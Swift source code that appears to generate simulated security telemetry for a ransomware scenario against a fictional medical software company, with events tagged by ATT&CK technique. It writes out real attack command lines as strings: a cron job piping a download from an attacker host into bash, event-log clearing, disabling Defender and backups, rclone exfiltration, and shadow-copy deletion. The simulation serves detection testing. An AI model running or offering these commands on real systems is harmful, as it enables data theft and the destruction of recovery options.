/// The scenario's later steps: persistence on WMI and Linux, evasion, the database, exfiltration and impact.
extension RansomwareScenario {
    static func wmiSubscription(_ plan: inout AttackPlan, _ c: Context) {
        let query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
        plan.add(
            "T1546.003",
            plan.process(
                host: c.app, Images.wmic,
                "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"EdgeUpdFilter\", EventNameSpace=\"root\\cimv2\", QueryLanguage=\"WQL\", Query=\"\(query)\"",
                parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: implantUser))
        plan.wait(500, 2_000)
        plan.add(
            "T1546.003",
            .wmi(19, host: c.app, user: implantUser,
                fields: [("EventNamespace", "\"root\\\\cimv2\""), ("Name", "\"EdgeUpdFilter\""), ("Query", "\"\(query)\"")]))
        plan.wait(3_000, 12_000)
        plan.add(
            "T1546.003",
            .wmi(20, host: c.app, user: implantUser,
                fields: [("Name", "\"EdgeUpdConsumer\""), ("Type", "Command Line"), ("Destination", "C:\\Users\\Public\\update.exe")]))
        plan.wait(3_000, 12_000)
        plan.add(
            "T1546.003",
            .wmi(21, host: c.app, user: implantUser,
                fields: [
                    ("Consumer", "\"CommandLineEventConsumer.Name=\\\"EdgeUpdConsumer\\\"\""),
                    ("Filter", "\"__EventFilter.Name=\\\"EdgeUpdFilter\\\"\""),
                ]))
        plan.pause()
    }

    static func linuxPersistence(_ plan: inout AttackPlan) {
        let app = plan.host("lx-app01")
        let web = plan.host("lx-web01")
        plan.add(
            "T1098.004",
            .pathWrite(host: app, target: "/root/.ssh/authorized_keys", image: "/usr/bin/bash", user: "root",
                processID: plan.random.int(in: 20_000...390_000)))
        plan.pause()
        plan.add(
            "T1053.003",
            .execve(
                host: web, image: "/usr/bin/bash",
                commandLine: "bash -c (crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://\(attacker)/k.sh | bash\") | crontab -",
                parent: "/usr/bin/bash", user: "root", processID: plan.random.int(in: 20_000...390_000)))
        plan.wait(1_000, 5_000)
        plan.add(
            "T1053.003",
            .pathWrite(host: web, target: "/etc/cron.d/apt-daily-check", image: "/usr/bin/bash", user: "root",
                processID: plan.random.int(in: 20_000...390_000)))
    }

    static func defenseEvasion(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.defenseEvasion)
        plan.add(
            "T1070.001",
            plan.process(
                host: c.fileServer, Images.wevtutil, "wevtutil cl Security", parent: Images.cmd,
                "C:\\Windows\\system32\\cmd.exe", user: adminUser))
        plan.wait(200, 900)
        plan.add(
            "T1070.001",
            .plain(
                .eventlogSecurity, 1102, host: c.fileServer,
                fields: [
                    ("SubjectUserSid", "S-1-5-21-\(plan.estate.domainSid.0)-\(plan.estate.domainSid.1)-\(plan.estate.domainSid.2)-\(1100 + plan.estate.workstations.count)"),
                    ("SubjectUserName", "adm.schulz"), ("SubjectDomainName", "MEDSOFT"), ("SubjectLogonId", "0x4a2f1c"),
                ], userData: "LogFileCleared"))
        plan.pause()
        plan.add(
            "T1562.001",
            plan.process(
                host: c.sql, Images.powershell, "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: adminUser))
        plan.wait(500, 3_000)
        plan.add(
            "T1562.001",
            .plain(
                .defender, 5001, host: c.sql,
                fields: [("Product Name", "Microsoft Defender Antivirus"), ("Product Version", "4.18.24090.11")],
                userData: nil))
        plan.pause()
        plan.add(
            "T1489",
            plan.process(
                host: c.backup, Images.net, "net stop VeeamBackupSvc", parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe",
                user: adminUser))
        plan.pause()
        plan.add(
            "T1489",
            plan.process(
                host: c.backup, Images.sc, "sc config VeeamBackupSvc start= disabled", parent: Images.cmd,
                "C:\\Windows\\system32\\cmd.exe", user: adminUser))
    }

    static func discoveryAndDatabase(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.discoveryAndDatabase)
        let robocopy = plan.pid()
        plan.add(
            "T1005",
            .plain(
                .security, 4663, host: c.sql,
                fields: [
                    ("SubjectUserName", "adm.schulz"), ("SubjectDomainName", "MEDSOFT"), ("SubjectLogonId", "0x4a2f1c"),
                    ("ObjectServer", "Security"), ("ObjectType", "File"), ("ObjectName", "D:\\PraxisDB\\praxis.mdf"),
                    ("HandleId", "0x1c4"), ("AccessList", "%%4416"), ("AccessMask", "0x1"),
                    ("ProcessId", "0x" + String(robocopy, radix: 16)), ("ProcessName", "C:\\Windows\\System32\\Robocopy.exe"),
                    ("ResourceAttributes", "S:AI"),
                ], userData: nil))
        plan.wait(300, 1_500)
        plan.add(
            "T1005",
            .fileCreate(
                host: c.sql, image: Images.robocopy, processID: robocopy, user: adminUser,
                target: "C:\\Users\\Public\\db\\praxis.mdf"))
        plan.pause()
        plan.add(
            "T1005",
            plan.process(
                host: c.app, Images.praxisExport,
                "\"C:\\Program Files\\MedSoft\\Praxis\\praxisexport.exe\" /all /out C:\\Users\\Public\\export.csv",
                parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: implantUser,
                directory: "C:\\Program Files\\MedSoft\\Praxis\\"))
        plan.pause()
        let workstation = plan.estate.hosts[c.workstation]
        let victim = plan.estate.users[workstation.user ?? 0].name
        plan.add(
            "T1046",
            .network(
                host: c.workstation, image: Images.implant, processID: c.implantWorkstation, user: "MEDSOFT\\" + victim,
                destination: Estate.konnektorAddress, name: "konnektor.medsoft.local", port: Estate.konnektorAdminPort))
        plan.wait(5, 200)
        plan.add(
            "T1046",
            .flow(
                source: workstation.address, sourceHost: workstation.name, destination: Estate.konnektorAddress,
                port: Estate.konnektorAdminPort, bytesOut: plan.random.int(in: 2_000...9_000),
                bytesIn: plan.random.int(in: 20_000...90_000)))
    }

    static func exfiltration(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.exfiltration)
        let staging: [(Int, String, String)] = [
            (c.sql, "C:\\Users\\Public\\p.7z", "D:\\PraxisDB"), (c.fileServer, "C:\\Users\\Public\\s.7z", "D:\\Shares"),
        ]
        for (host, archive, source) in staging {
            plan.add(
                "T1560.001",
                plan.process(
                    host: host, Images.sevenZip, "7z.exe a -pMedLock!2026 -mhe=on \(archive) \(source)", parent: Images.cmd,
                    "C:\\Windows\\system32\\cmd.exe", user: adminUser, directory: "C:\\Users\\Public\\"))
            plan.pause()
            plan.add(
                "T1567.002",
                plan.process(
                    host: host, Images.rclone,
                    "rclone.exe copy \(archive) mega:praxis-backup --transfers 8 --no-check-certificate -q",
                    parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: adminUser, directory: "C:\\Users\\Public\\"))
            plan.wait(1_000, 4_000)
        }
        // Each host sends 1.3-1.5 GB to the attacker within at most eight minutes, in chunks of 80-110 MB.
        let window = min(8 * 60_000, plan.span * 15 / 100)
        let chunks = 15
        let gap = window / Int64(chunks * 2)
        for _ in 0..<chunks {
            for (host, _, _) in staging {
                let source = plan.estate.hosts[host]
                plan.add(
                    "T1567.002",
                    .flow(
                        source: source.address, sourceHost: source.name, destination: attacker, port: 443,
                        bytesOut: plan.random.int(in: 88_000_000...110_000_000),
                        bytesIn: plan.random.int(in: 200_000...900_000)))
                plan.wait(Int(gap / 2), Int(gap))
            }
        }
    }

    static func impactPrecursors(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.impactPrecursors)
        let commands: [(ProcessImage, String, [Int])] = [
            (Images.vssadmin, "vssadmin.exe delete shadows /all /quiet", [c.app, c.fileServer, c.sql]),
            (Images.wmic, "wmic shadowcopy delete", [c.fileServer, c.sql]),
            (Images.wbadmin, "wbadmin delete catalog -quiet", [c.fileServer, c.sql]),
            (Images.bcdedit, "bcdedit /set {default} recoveryenabled no", [c.fileServer, c.sql]),
        ]
        for (image, commandLine, hosts) in commands {
            for host in hosts {
                plan.add(
                    "T1490",
                    plan.process(
                        host: host, image, commandLine, parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe /c " + commandLine,
                        user: host == c.app ? implantUser : adminUser))
                plan.wait(1_500, 6_000)
            }
        }
    }

    static func encryption(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.encryption)
        let folders = [
            "Praxisverwaltung\\Vorlagen", "Praxisverwaltung\\Vertraege", "Abrechnung\\2025", "Abrechnung\\2026",
            "Personal\\Dienstplaene", "Personal\\Bewerbungen", "Support\\Tickets", "Support\\Handbuecher",
            "Entwicklung\\Releases", "Entwicklung\\Spezifikationen", "Vertrieb\\Angebote", "Vertrieb\\Kunden",
        ]
        let names = ["Vertrag", "Rechnung", "Angebot", "Protokoll", "Dienstplan", "Handbuch", "Spezifikation", "Bericht"]
        let extensions = ["docx", "xlsx", "pdf", "pptx"]
        for round in 0..<4 {
            for folder in folders {
                let path = "D:\\Shares\\\(folder)\(round == 0 ? "" : "\\Archiv\(round)")\\"
                plan.add(
                    "T1486",
                    .fileCreate(host: c.fileServer, image: Images.implant, processID: c.implantFileServer, user: system,
                        target: path + "README_RESTORE.txt"))
                plan.wait(20, 80)
                for _ in 0..<11 {
                    let name = "\(plan.random.pick(names))_\(plan.random.int(in: 1000...9999)).\(plan.random.pick(extensions))"
                    plan.add(
                        "T1486",
                        .fileCreate(host: c.fileServer, image: Images.implant, processID: c.implantFileServer, user: system,
                            target: path + name + ".medlock"))
                    plan.wait(60, 260)
                }
            }
        }
    }
}
